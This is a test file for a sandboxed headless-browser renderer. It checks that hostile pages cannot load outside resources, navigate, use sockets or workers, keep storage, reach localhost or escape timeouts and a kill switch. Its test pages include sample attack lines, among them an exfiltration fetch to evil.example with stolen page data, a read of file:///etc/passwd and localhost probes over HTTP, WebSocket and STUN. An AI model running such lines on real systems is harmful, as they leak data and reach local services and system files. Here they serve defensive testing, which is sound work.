import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { existsSync, readdirSync } from 'node:fs'
import { createServer, type Server } from 'node:net'
import { join } from 'node:path'
import { describe, expect, it, onTestFinished } from 'vitest'
import { AppError } from '../../shared/domain/errors.ts'
import { answer, done, openPool, pageUrl } from '../support/browser-pool.ts'
import { testChromium } from '../support/chromium.ts'

const chromium = await testChromium()
const path = 'path' in chromium ? chromium.path : ''
const why = 'reason' in chromium ? chromium.reason : ''

/** What a script of a hostile page found out, written into its own DOM. */
const report = (expression: string) =>
  `(async () => { let said; try { said = await (async () => (${expression}))() } catch (e) { said = 'threw ' + e.name }
   document.body.append(Object.assign(document.createElement('pre'), { textContent: 'said:' + said + '.' })); ${done} })()`

const said = (html: string) => /<pre>said:([^<]*)\.<\/pre>/u.exec(html)?.[1]

describe.skipIf(why !== '')(`a hostile page that is rendered ${why}`, () => {
  it('gets scripts and data of its own host, by GET, and nothing else', async () => {
    const { render, asked } = openPool(path, { answers: { '/own.js': answer('') } })
    const { requests, end } = await render(`
      <link rel="stylesheet" href="/own.css"><img src="/own.png"><img src="https://evil.example/x.png">
      <script src="/own.js"></script><script src="https://evil.example/x.js"></script>
      <script src="https://other.liverc.com/x.js"></script><script src="http://meadow.liverc.com/x.js"></script>
      <link rel="preload" as="font" href="/own.woff2" crossorigin><video src="/own.mp4"></video>
      <iframe src="/frame.html"></iframe><iframe src="https://evil.example/"></iframe>
      <object data="/own.bin"></object><link rel="prefetch" href="/next.html"><link rel="preconnect" href="https://evil.example">
      <form id="f" method="post" action="/post"></form>
      <script>
        navigator.sendBeacon('/beacon', 'x')
        fetch('/posted', { method: 'POST', body: 'x' }).catch(() => {})
        fetch('https://evil.example/stolen?' + document.title).catch(() => {})
        fetch('/own.json').finally(() => { ${done} })
      </script>`)
    expect(end).toBe('complete')
    expect(asked.toSorted()).toEqual([
      'https://meadow.liverc.com/own.js',
      'https://meadow.liverc.com/own.json',
    ])
    expect(requests.refused).toBeGreaterThan(8)
  })

  it('stays where it is: no navigation, no window, no dialog, no download', async () => {
    const { render, asked, folder } = openPool(path)
    const { html, end } = await render(`
      <a id="a" download href="data:application/octet-stream,secret">x</a>
      <script>
        alert('stop'); confirm('stop'); prompt('stop')
        window.open('https://evil.example/'); window.open('/popup'); window.open('about:blank')
        document.getElementById('a').click()
        location.href = 'https://evil.example/'
        location.assign('/elsewhere')
        setTimeout(() => location.reload(), 10)
        setTimeout(() => { ${done} }, 300)
      </script>`)
    expect(end).toBe('complete')
    expect(html).toContain('<p id="done"></p>')
    expect(asked).toEqual([])
    const files = readdirSync(folder, { recursive: true, encoding: 'utf8' })
    expect(files.filter((file) => /secret|\.crdownload/u.test(file))).toEqual([])
  })

  it('has no sockets, no workers, no permissions and nothing to remember by', async () => {
    const { render } = openPool(path)
    const names = ['WebSocket', 'WebTransport', 'RTCPeerConnection', 'EventSource', 'Worker', 'SharedWorker']
    const types = await render(
      `<script>${report(`${JSON.stringify(names)}.map((n) => typeof window[n]).join()`)}</script>`,
    )
    expect(said(types.html)).toBe(names.map(() => 'undefined').join(','))
    const fresh = `const frame = document.createElement('iframe'); document.body.append(frame); return typeof frame.contentWindow.RTCPeerConnection`
    const framed = await render(`<script>${report(`(() => { ${fresh} })()`)}</script>`)
    expect(said(framed.html)).toBe('undefined')
    const store = `const before = localStorage.getItem('seen') + document.cookie; localStorage.setItem('seen', 'yes'); document.cookie = 'seen=yes'; return before`
    for (let visit = 0; visit < 2; visit += 1) {
      const { html } = await render(`<script>${report(`(() => { ${store} })()`)}</script>`)
      expect(said(html)).toBe('null')
    }
    const worker = await render(
      `<script>${report(`'serviceWorker' in navigator ? await navigator.serviceWorker.register('/sw.js').then((r) => typeof r) : 'absent'`)}</script>`,
    )
    expect(said(worker.html)).not.toBe('object')
    const place = `await new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('found'), () => resolve('refused')))`
    expect(said((await render(`<script>${report(place)}</script>`)).html)).toBe('refused')
  })

  it('cannot reach this computer, by name, by number or by UDP', async () => {
    const reached: string[] = []
    const server: Server = createServer(() => reached.push('tcp')).listen(0, '127.0.0.1')
    const udp = createSocket('udp4').on('message', () => reached.push('udp'))
    udp.bind(0, '127.0.0.1')
    await Promise.all([once(server, 'listening'), once(udp, 'listening')])
    onTestFinished(() => {
      server.close()
      udp.close()
    })
    const address = server.address()
    const port = typeof address === 'object' && address !== null ? address.port : 0
    const { render } = openPool(path)
    const tries = `
      for (const host of ['127.0.0.1', 'localhost', '[::1]'])
        for (const scheme of ['http', 'https'])
          await fetch(scheme + '://' + host + ':${port}/', { mode: 'no-cors' }).catch(() => 0)
      try {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp.address().port}' }] })
        peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer())
      } catch {}
      try { new WebSocket('ws://127.0.0.1:${port}/') } catch {}
      const file = await fetch('file:///etc/passwd').then((r) => r.text()).catch(() => 'no file')
      return file`
    const { html } = await render(
      `<img src="http://127.0.0.1:${port}/x.png"><script>${report(`(async () => { ${tries} })()`)}</script>`,
    )
    expect(said(html)).toBe('no file')
    expect(reached).toEqual([])
  })

  it('cannot see, call or deceive what looks at it', async () => {
    const { render } = openPool(path)
    const { html, end } = await render(`<script>
      Object.defineProperty(Element.prototype, 'outerHTML', { get: () => 'forged' })
      Document.prototype.querySelector = () => null
      window.MutationObserver = window.setTimeout = undefined
      document.title = [typeof mreChanged, typeof mreLook, typeof mreArm].join()
      ${done}
    </script>`)
    expect(end).toBe('complete')
    expect(html).not.toMatch(/^<!DOCTYPE html>\nforged/u)
    expect(html).toContain('<title>undefined,undefined,undefined</title>')
  })

  it('is given up when it never stops, and others are rendered after it', async () => {
    const { render } = openPool(path, { settings: { MRE_BROWSER_PAGE_TIMEOUT_MS: '2000' } })
    const failure = await render('<script>for (;;) {}</script>').catch((thrown: unknown) => thrown)
    expect(failure).toMatchObject({ code: 'BROWSER_ERROR', details: { kind: 'unresponsive' } })
    expect((await render(`<script>${done}</script>`)).end).toBe('complete')
  })

  it('is stopped by the kill switch, which no further request gets past', async () => {
    let allowed = 1
    const off = new AppError('SCRAPING_DISABLED', 'Off.', { stage: 'policy', source: 'site_policy' })
    const { render, asked } = openPool(path, {
      resources: {
        resource: async () => {
          if ((allowed -= 1) < 0) throw off
          return answer('')
        },
      },
    })
    const script = `let n = 0; const next = () => fetch('/n?' + (n += 1)).catch(() => 0).then(next); next()`
    const failure = await render(`<script>${script}</script>`).catch((thrown: unknown) => thrown)
    expect(failure).toBe(off)
    const before = asked.length
    expect(before).toBeLessThan(4)
    await new Promise((resolve) => setTimeout(resolve, 200))
    expect(asked).toHaveLength(before)
  })

  it('says who asks, and shows nobody where it runs', async () => {
    const headers: (Readonly<Record<string, string>> | undefined)[] = []
    const { render, folder } = openPool(path, {
      resources: {
        resource: async (_url, options) => {
          headers.push(options.headers)
          return answer('{}', 'application/json')
        },
      },
    })
    const { html } = await render(
      `<script>document.cookie = 'a=b'; fetch('/x', { headers: { 'x-requested-with': 'XMLHttpRequest', 'x-evil': '1' } }).then(() => { ${report('navigator.userAgent')} })</script>`,
    )
    expect(said(html)).toBe('MyRaceEngineer/test')
    expect(headers).toEqual([{ accept: '*/*', 'x-requested-with': 'XMLHttpRequest' }])
    expect(existsSync(join(folder, 'profiles'))).toBe(true)
    expect(pageUrl).toContain('meadow')
  })
})
